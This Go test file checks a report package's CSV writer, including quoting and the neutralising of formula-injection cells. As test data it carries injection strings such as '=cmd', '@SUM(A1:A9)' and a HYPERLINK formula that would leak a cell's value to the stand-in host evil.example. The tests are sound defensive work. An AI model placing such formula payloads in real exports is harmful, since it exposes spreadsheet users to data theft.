package report

import (
	"bufio"
	"context"
	"math"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html/atom"
)

func TestCSVWriter(t *testing.T) {
	for _, safe := range []bool{false, true} {
		var b strings.Builder
		w := bufio.NewWriter(&b)
		c := csvWriter{w: w, safe: safe}
		c.writeRecord([]field{{s: "plain", ok: true}, {}, {s: "", ok: true}, {s: `say "hi"`, ok: true},
			{s: "a,b", ok: true}, {s: "two\r\nlines", ok: true}, {s: " spaced ", ok: true}})
		c.writeRecord([]field{{}})
		w.Flush()
		want := "plain,,\"\",\"say \"\"hi\"\"\",\"a,b\",\"two\r\nlines\", spaced \r\n\"\"\r\n"
		if b.String() != want {
			t.Errorf("safe=%v: got  %q\nwant %q", safe, b.String(), want)
		}
	}
}

// TestFormulaCell is the CSV-injection rule, cell by cell.
func TestFormulaCell(t *testing.T) {
	for _, c := range []struct {
		s    string
		num  bool
		want bool
	}{
		{"=1+1", false, true}, {"+1", false, true}, {"-1", false, true}, {"@SUM(A1)", false, true},
		{"\tx", false, true}, {"\rx", false, true},
		{"=1+1", true, true}, {"+1", true, true}, {"@1", true, true}, {"\t1", true, true},
		{"-3", true, false}, {"-20.25", true, false}, {"-0", true, false}, {"-1e-09", true, false},
		{"-1.5E+20", true, false}, {"-3.50", true, false},
		{"-3+cmd", true, true}, {"-3+cmd", false, true}, {"-", true, true}, {"-.5", true, true}, {"-1.", true, true},
		{"-1e", true, true}, {"-1e+", true, true}, {"-Inf", true, true}, {"-0x1p3", true, true}, {"--1", true, true},
		{"-1,2", true, true}, {"-1\n=cmd", true, true},
		{"", false, false}, {"x=1", false, false}, {" =1", false, false}, {"3", true, false}, {"1e-09", true, false},
		{"NaN", true, false}, {"'=1", false, false},
	} {
		if got := formulaCell(c.s, c.num); got != c.want {
			t.Errorf("formulaCell(%q, num=%v) = %v, want %v", c.s, c.num, got, c.want)
		}
	}
}

// TestCSVInjection runs a report whose cells start with every formula
// character and checks data.csv: text cells and column names neutralised
// and quoted correctly, plain negative numbers of numeric columns left as
// they are; and that data-raw.csv, asked for, holds every value as it is.
func TestCSVInjection(t *testing.T) {
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`
	cols := []Column{{"text", "VARCHAR"}, {"n", "BIGINT"}, {"d", "DOUBLE"}, {"dec", "DECIMAL(10,2)"}, {"@label", "VARCHAR"}}
	rows := [][]any{
		{hyperlink, int64(-3), -20.25, "-3.50", "a"},
		{"+1", int64(3), -1.5e-7, "-3+cmd", "b"},
		{"-3", int64(-9223372036854775808), math.Inf(-1), "-0.01", "c"},
		{"-3+cmd", int64(0), 0.5, "1", "d"},
		{"@SUM(A1:A9)", nil, nil, nil, "e"},
		{"\t=cmd", int64(1), 1.0, "1", "f"},
		{"\r=cmd", int64(1), 1.0, "1", "g"},
		{"plain, text", int64(1), 1.0, "1", "h"},
	}
	q := &genQuerier{cols: cols, rows: int64(len(rows)), row: func(i int64) []any { return rows[i] }}
	r, _ := newTestRunner(t, q)
	r.RawCSV = true
	res, err := r.Run(context.Background(), Definition{Name: "inject", SQL: "SELECT 1", RunAs: "eve"})
	if err != nil {
		t.Fatal(err)
	}

	wantSafe := [][]string{
		{"text", "n", "d", "dec", "'@label"},
		{"'" + hyperlink, "-3", "-20.25", "-3.50", "a"},
		{"'+1", "3", "-1.5e-07", "'-3+cmd", "b"},
		{"'-3", "-9223372036854775808", "'-Inf", "-0.01", "c"},
		{"'-3+cmd", "0", "0.5", "1", "d"},
		{"'@SUM(A1:A9)", "", "", "", "e"},
		{"'\t=cmd", "1", "1", "1", "f"},
		{"'\r=cmd", "1", "1", "1", "g"},
		{"plain, text", "1", "1", "1", "h"},
	}
	if got := readCSV(t, filepath.Join(res.Path, dataCSV)); !slices.EqualFunc(got, wantSafe, slices.Equal) {
		t.Errorf("data.csv reads back as\n%q\nwant\n%q", got, wantSafe)
	}
	safe := mustRead(t, filepath.Join(res.Path, dataCSV))
	if want := `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")",-3,-20.25,-3.50,a` + "\r\n"; !strings.Contains(safe, want) {
		t.Errorf("data.csv lacks the quoted, neutralised line %q:\n%s", want, safe)
	}
	if want := "\"'\r=cmd\",1,1,1,g\r\n"; !strings.Contains(safe, want) {
		t.Errorf("data.csv lacks %q:\n%q", want, safe)
	}

	wantRaw := "text,n,d,dec,@label\r\n" +
		`"=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")",-3,-20.25,-3.50,a` + "\r\n" +
		"+1,3,-1.5e-07,-3+cmd,b\r\n" +
		"-3,-9223372036854775808,-Inf,-0.01,c\r\n" +
		"-3+cmd,0,0.5,1,d\r\n" +
		"@SUM(A1:A9),,,,e\r\n" +
		"\t=cmd,1,1,1,f\r\n" +
		"\"\r=cmd\",1,1,1,g\r\n" +
		"\"plain, text\",1,1,1,h\r\n"
	if got := mustRead(t, filepath.Join(res.Path, rawCSV)); got != wantRaw {
		t.Errorf("data-raw.csv =\n%q\nwant\n%q", got, wantRaw)
	}

	meta, err := ReadMeta(res.Path)
	if err != nil {
		t.Fatal(err)
	}
	if !meta.RawCSV {
		t.Error("meta.json does not say data-raw.csv exists")
	}
	if want := folderSize(t, res.Path) - int64(len(mustRead(t, filepath.Join(res.Path, metaFile)))); meta.Bytes != want {
		t.Errorf("meta.json bytes = %d, want %d (every file but meta.json)", meta.Bytes, want)
	}
	if got := csvLinks(t, res.Path); !slices.Equal(got, []string{"data.csv", "data-raw.csv (raw, formulas not neutralised)"}) {
		t.Errorf("run page links %q, want data.csv and the raw file labelled raw", got)
	}
	checkLinks(t, r.Dir)
}

// TestNoRawCSVByDefault: without Runner.RawCSV there is no data-raw.csv and
// no link to one.
func TestNoRawCSVByDefault(t *testing.T) {
	r, _ := newTestRunner(t, smallQuerier())
	res, err := r.Run(context.Background(), Definition{Name: "plain", SQL: "SELECT 1", RunAs: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	if exists(filepath.Join(res.Path, rawCSV)) {
		t.Error("data-raw.csv written without Runner.RawCSV")
	}
	if got := csvLinks(t, res.Path); !slices.Equal(got, []string{"data.csv"}) {
		t.Errorf("run page links %q, want only data.csv", got)
	}
	if strings.Contains(mustRead(t, filepath.Join(res.Path, metaFile)), "raw_csv") {
		t.Error("meta.json mentions raw_csv for a run without it")
	}
}

// csvLinks is the text of the run page's links to CSV files.
func csvLinks(t *testing.T, runDir string) []string {
	t.Helper()
	var out []string
	for _, a := range findAll(parsePage(t, filepath.Join(runDir, "index.html")), atom.A) {
		if href, _ := attr(a, "href"); strings.HasSuffix(href, ".csv") {
			out = append(out, text(a))
		}
	}
	return out
}
